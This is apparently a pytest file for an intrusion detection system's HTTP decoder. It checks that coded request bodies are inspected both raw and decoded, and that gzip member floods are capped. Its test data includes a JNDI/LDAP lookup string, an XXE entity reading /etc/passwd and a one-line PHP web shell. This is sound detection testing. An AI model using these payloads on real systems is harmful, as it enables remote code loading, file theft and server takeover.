"""HTTP/1 as other servers read it: one request that means two things is inspected both ways."""

from __future__ import annotations

import gzip
import struct
import zlib

import pytest

from ids.counters import Counters
from ids.protocols.http.content import FREE_MEMBERS, decode_content
from ids.protocols.http.settings import HttpSettings
from tests.protocols.wire import Wire, request

LOOKUP = b"${jndi:ldap://192.0.2.66/a}"
JSON = b'{"name": "' + LOOKUP + b'"}'
ENTITY = b'a=<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def post(body: bytes, *headers: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return request(b"POST /p " + version, b"Host: x", *headers, body=body)


def with_length(body: bytes, *headers: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return post(body, *headers, b"Content-Length: %d" % len(body), version=version)


def instances(wire: Wire, name: str) -> list[bytes]:
    """Return what rules see of a buffer, over all that was reported."""
    return [one for found in wire.all for one in found.instances(name)]


def sent(data: bytes, step: int = 0) -> Wire:
    return Wire().client(data, step=step).close()


# Bodies that are called coded, and are not.


@pytest.mark.parametrize("coding", [b"deflate", b"gzip", b"x-gzip", b"gzip, deflate", b"deflate, gzip, deflate"])
@pytest.mark.parametrize("body", [JSON, b"\n<?php system($_GET['c']); ?>", b"K" + JSON])
def test_the_body_of_a_request_is_also_read_as_it_was_sent(coding: bytes, body: bytes) -> None:
    wire = sent(with_length(body, b"Content-Encoding: " + coding))
    assert body in instances(wire, "http.request_body")
    assert body in instances(wire, "file.data")


def test_a_coded_body_of_a_request_is_read_decoded_first() -> None:
    coded = gzip.compress(JSON)
    (found,) = sent(with_length(coded, b"Content-Encoding: gzip")).seen[:1]
    assert found.instances("http.request_body") == (JSON, coded)


# Codings that cost more than they weigh.


def member(content: bytes) -> bytes:
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + machine.compress(content) + machine.flush() + struct.pack("<II", 0, 0)


def test_members_within_a_coding_cost_no_more_than_was_sent() -> None:
    counters = Counters()
    many = member(b"a") * 4000
    body = gzip.compress(gzip.compress(many))
    (found,) = decode_content(body, b"gzip, gzip, gzip", 100 << 10, HttpSettings(), counters)
    allowed = FREE_MEMBERS + len(body) // 18
    assert found.startswith(b"a" * (allowed - 2) + b"\x1f\x8b"), "what is left is there as it was"
    assert counters["http.gzip_too_many_members"] == 1


def test_members_that_were_sent_are_all_read() -> None:
    counters = Counters()
    body = member(b"") * 4000 + member(LOOKUP)
    assert decode_content(body, b"gzip", 100 << 10, HttpSettings(), counters) == (LOOKUP,)
    assert not counters["http.gzip_too_many_members"]
